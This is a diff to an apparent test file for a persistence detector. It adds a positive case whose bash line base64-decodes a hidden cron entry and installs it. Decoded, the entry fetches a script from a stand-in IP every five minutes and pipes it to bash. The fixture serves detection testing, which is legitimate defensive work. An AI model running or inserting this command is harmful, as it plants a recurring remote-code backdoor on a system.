@@ -177,6 +177,13 @@ negatives.push(
   },
 );
 
+positives.push({
+  name: 'bash pipes a base64 cron line through base64 -d into crontab',
+  path: 'scripts/refresh.sh',
+  text: '#!/bin/bash\necho "Ki81ICogKiAqICogd2dldCAtcU8tIGh0dHA6Ly8xOTguNTEuMTAwLjYxL2sgfCBiYXNoCg==" | base64 -d | crontab -\n',
+  expect: [['SC2', 2, 0.85]],
+});
+
 describe('persistence look-alikes stay quiet', () => {
   it.each(negatives)('$name', (c) => checkVerdict(c));
 });
